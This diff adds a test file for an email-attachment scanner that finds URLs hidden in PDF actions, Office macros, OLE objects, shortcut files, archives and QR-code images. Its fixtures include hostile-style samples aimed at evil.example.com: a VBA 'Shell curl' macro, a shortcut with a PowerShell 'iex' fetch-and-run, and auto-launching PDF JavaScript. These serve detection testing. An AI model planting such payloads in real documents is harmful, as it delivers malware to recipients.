@@ -1,0 +1,224 @@
+"""What the tables of forms do not show: actions of PDF, locked and rare files, passwords, several codes, what is worth a look."""
+
+from __future__ import annotations
+
+import os
+import subprocess
+import sys
+
+import pikepdf
+import pytest
+from pikepdf import Array, Dictionary, Name, String
+from PIL import Image
+from tests.message.attachments import made
+
+from mailward.message import parse
+from mailward.message.attachments import Attachment, Examined, passwords, worth
+from mailward.message.attachments.examine import examine
+
+_URL = "https://evil.example.com/a"
+
+
+_MONIKER = bytes.fromhex("e0c9ea79f9bace118c8200aa004ba90b") + (54).to_bytes(4, "little") + f"{_URL}\0".encode("utf-16-le")
+_NATIVE = bytes(6) + b"a.html\0C:\\a.html\0" + bytes(8) + b"C:\\a.html\0" + bytes(4) + f"<a href='{_URL}'>".encode()
+
+
+def _look(name: str, content: bytes, text: str = "") -> Examined:
+    return examine([Attachment(name, "", "", content)], text)
+
+
+def _urls(examined: Examined) -> list[str]:
+    return [one.url for one in examined.urls]
+
+
+def _names(examined: Examined) -> list[str]:
+    return [finding.name for finding in examined.findings]
+
+
+_ACTIONS = {
+    "script": {"/OpenAction": Dictionary(S=Name.JavaScript, JS=String(f"app.launchURL('{_URL}', true)"))},
+    "script, escaped": {"/OpenAction": Dictionary(S=Name.JavaScript, JS=String('x = "https:\\/\\/evil.example.com\\/a"'))},
+    "launch": {"/OpenAction": Dictionary(S=Name.Launch, F=Dictionary(Type=Name.Filespec, F=String(_URL)))},
+    "remote": {"/OpenAction": Dictionary(S=Name.GoToR, F=String(_URL), D=[0, Name.Fit])},
+    "form": {"/AA": Dictionary(WC=Dictionary(S=Name.SubmitForm, F=Dictionary(FS=Name.URL, F=String(_URL))))},
+    "bookmark": {
+        "/Outlines": Dictionary(Type=Name.Outlines, First=Dictionary(Title=String("x"), A=Dictionary(S=Name.URI, URI=String(_URL))))
+    },
+    "base": {"/URI": Dictionary(Base=String(_URL))},
+    "names": {
+        "/Names": Dictionary(JavaScript=Dictionary(Names=Array([String("a"), Dictionary(S=Name.JavaScript, JS=String(f'"{_URL}"'))])))
+    },
+    "nobody leads there": {"/Strange": Dictionary(S=Name.URI, URI=String(_URL))},
+}
+
+
+@pytest.mark.parametrize("name", _ACTIONS)
+def test_actions_of_pdf(name: str) -> None:
+    """Whatever the document may open, by itself or by a click."""
+    examined = _look("a.pdf", made.pdf(("x",), root=_ACTIONS[name]))
+    assert _urls(examined) == [_URL]
+    assert examined.findings == ()
+
+
+def test_files_within_pdf() -> None:
+    """An embedded file is looked into as any other."""
+    file = f"<a href='{_URL}'>x</a>".encode()
+    document = pikepdf.open(made.io.BytesIO(made.pdf(("x",))))
+    document.attachments["a.html"] = pikepdf.AttachedFileSpec(document, file)
+    out = made.io.BytesIO()
+    document.save(out)
+    assert _urls(_look("a.pdf", out.getvalue())) == [_URL]
+
+
+def test_addresses_broken_over_lines_of_a_page() -> None:
+    """A page breaks lines where it likes; both the short and the long form count."""
+    examined = _look("a.pdf", made.pdf(("Please open https://evil.example.com/ac", "count/ver", "ify?x=1", "today")))
+    assert "https://evil.example.com/account/verify?x=1" in _urls(examined)
+
+
+@pytest.mark.parametrize(
+    ("name", "content"),
+    [
+        ("a.pdf", made.pdf(("x",), (_URL,), password="unknown")),
+        ("a.docx", made.compound({"EncryptionInfo": b"x", "EncryptedPackage": b"x"})),
+        ("a.doc", made.compound({"WordDocument": bytes(11) + b"\x01"})),
+        ("a.xls", made.compound({"Workbook": b"\x09\x08\x04\x00\x00\x06\x05\x00\x2f\x00\x02\x00\x01\x00"})),
+        ("a.ppt", made.compound({"Current User": bytes(12) + bytes.fromhex("dfc4d1f3"), "PowerPoint Document": b""})),
+    ],
+)
+def test_locked_documents_are_told(name: str, content: bytes) -> None:
+    """Without the password there is a finding, and nothing else."""
+    examined = _look(name, content, "no word of a password")
+    assert (_urls(examined), _names(examined)) == ([], ["attachment:encrypted"])
+
+
+@pytest.mark.parametrize("method", ["ZipCrypto", "AES256"])
+def test_a_locked_zip_without_its_password(method: str) -> None:
+    """The words of the message do not fit."""
+    examined = _look("a.zip", made.locked_zip({"a.html": b"x"}, method, "unknown"), made.ANNOUNCED)
+    assert _names(examined) == ["attachment:encrypted"]
+
+
+def test_a_locked_7z() -> None:
+    """libarchive does not open these."""
+    examined = _look("a.7z", made.seven_zip({"a.html": b"x" * 100}, f"-p{made.PASSWORD}", "-mhe=on"), made.ANNOUNCED)
+    assert "attachment:encrypted" in _names(examined)
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "Password: Xy7-kl!",
+        "the archive password is Xy7-kl!",
+        'Das Passwort lautet "Xy7-kl!".',
+        "Le mot de passe : Xy7-kl!",
+        "contraseña del archivo: Xy7-kl!",
+        "Use Xy7-kl! as the password",
+        "解压密码：Xy7-kl!",
+        "パスワードは「Xy7-kl!」です",
+        "пароль для архива - Xy7-kl!",
+        "PIN=Xy7-kl!",
+        "Xy7-kl! opens it",
+    ],
+)
+def test_passwords_are_found_in_many_languages(text: str) -> None:
+    """Near the word for it, and where a word looks like one."""
+    found = passwords.candidates(f"Dear customer,\nthe invoice is attached. {text}\nBest regards\n" + "more words " * 1000)
+    assert "Xy7-kl!" in found
+    assert len(found) <= 60
+
+
+@pytest.mark.parametrize(
+    ("name", "content"),
+    [
+        ("a.doc", made.compound({"Macros/VBA/Module1": made.macro(f'Shell "curl {_URL}"')})),
+        ("vbaProject.bin", made.compound({"VBA/Module1": made.macro(f'Shell "curl {_URL}"')})),
+        ("a.xls", made.compound({"Workbook": _MONIKER})),
+        ("a.doc", made.compound({"ObjectPool/_1/Package": made.docx(target=_URL)})),
+        ("a.doc", made.compound({"ObjectPool/_1/\x01Ole10Native": _NATIVE})),
+        ("a.lnk", b"L\0\0\0\x01\x14\x02\0" + bytes(60) + f"-c iex {_URL} ".encode("utf-16-le")),
+        ("a.one", bytes.fromhex("e4525c7b8cd8a74daeb15378d02996d3") + bytes(90) + f"{_URL}\0".encode("utf-16-le")),
+        ("a.dat", b"\x1f\x8b" + made.gzip.compress(_URL.encode(), mtime=0)[2:]),
+    ],
+)  # fmt: skip
+def test_rarer_places(name: str, content: bytes) -> None:
+    """Macros, embedded files, shortcuts."""
+    assert _urls(_look(name, content)) == [_URL]
+
+
+def test_several_codes_in_one_picture() -> None:
+    """Each is read."""
+    one, other = made.grey(made.qr(_URL)), made.grey(made.qr("https://other.example.org/"))
+    both = Image.new("L", (one.width + other.width, max(one.height, other.height)), 255)
+    both.paste(one, (0, 0))
+    both.paste(other, (one.width, 0))
+    assert sorted(_urls(_look("a.png", made.saved(both)))) == [_URL, "https://other.example.org/"]
+
+
+@pytest.mark.parametrize("colour", ["black", "white"])
+def test_codes_of_transparent_pictures(colour: str) -> None:
+    """Drawn on nothing in black, or in white for dark screens."""
+    code = made.grey(made.qr(_URL)).point(lambda value: 255 - value)
+    picture = Image.new("RGBA", code.size, (0, 0, 0, 0))
+    picture.paste(Image.new("RGBA", code.size, colour), mask=code)
+    assert _urls(_look("a.png", made.saved(picture))) == [_URL]
+
+
+def test_a_code_in_a_large_picture() -> None:
+    """Twenty megapixels with a small code in it."""
+    page = Image.new("RGB", (5472, 3648), "white")
+    page.paste(made.grey(made.qr(_URL)).resize((400, 400)).convert("RGB"), (4000, 2000))
+    assert _urls(_look("a.jpg", made.saved(page, "JPEG"))) == [_URL]
+
+
+def test_a_code_in_a_later_frame() -> None:
+    """A moving picture that begins blank."""
+    code = made.grey(made.qr(_URL))
+    blank = Image.new("L", code.size, 255)
+    assert _urls(_look("a.gif", made.saved(blank, "GIF", save_all=True, append_images=[code]))) == [_URL]
+
+
+def test_a_code_split_over_two_parts_of_a_message() -> None:
+    """Neighbouring pictures of a message, in either order."""
+    code = made.grey(made.qr(_URL))
+    halves = [code.crop((0, 0, code.width // 2, code.height)), code.crop((code.width // 2, 0, code.width, code.height))]
+    for order in (halves, halves[::-1]):
+        files = [Attachment(f"{i}.png", "image/png", "", made.saved(half)) for i, half in enumerate(order)]
+        assert _urls(examine(files)) == [_URL]
+
+
+def _mail(kind: str, content: bytes, text: str = "hello") -> tuple[Attachment, ...]:
+    return worth(parse(made.with_file("a", content, text, kind)))
+
+
+def test_small_pictures_are_not_worth_it() -> None:
+    """Tracking pixels, lines and icons start no helper; what can hold a code, or half of one, does."""
+    assert not _mail("image/gif", made.saved(Image.new("L", (1, 1)), "GIF"))
+    assert not _mail("image/png", made.saved(Image.effect_noise((600, 10), 90)))
+    assert not _mail("image/png", made.saved(Image.effect_noise((32, 32), 90)))
+    assert _mail("image/png", made.saved(Image.effect_noise((100, 50), 90)))
+    assert _mail("image/png", made.qr(_URL))
+
+
+def test_ordinary_bodies_are_not_worth_it() -> None:
+    """Only a body in which a code may be drawn goes to a helper."""
+    newsletter = (
+        "<table>" + "<tr><td bgcolor=white>Figures</td><td background=a.png>of <a href='https://example.com/'>November</a></td></tr>" * 40
+    )
+    assert worth(parse(made.mail("hello █ world\n" * 20))) == ()
+    assert worth(parse(made.mail(newsletter + "</table>", "html"))) == ()
+    assert [each.place for each in worth(parse(made.mail(made.code_table(_URL), "html")))] == ["html"]
+    assert [each.place for each in worth(parse(made.mail(made.code_text(_URL))))] == ["text"]
+
+
+def test_without_libarchive() -> None:
+    """What it would open is a finding; everything else is read."""
+    program = (
+        "import sys\nfrom mailward.message.attachments import Attachment\nfrom mailward.message.attachments.examine import examine\n"
+        "examined = examine([Attachment('a.rar', '', '', sys.stdin.buffer.read()), Attachment('a.txt', '', '', b'https://evil.example.com/a')])\n"
+        "print([one.url for one in examined.urls], [finding.name for finding in examined.findings])"
+    )
+    environment = {**os.environ, "LIBARCHIVE": "/nonexistent/libarchive.so.13"}
+    content = made.rar5("a.txt", b"https://other.example.com/")
+    done = subprocess.run([sys.executable, "-c", program], input=content, env=environment, check=True, capture_output=True)
+    assert done.stdout.decode().strip() == "['https://evil.example.com/a'] ['attachment:unread']"
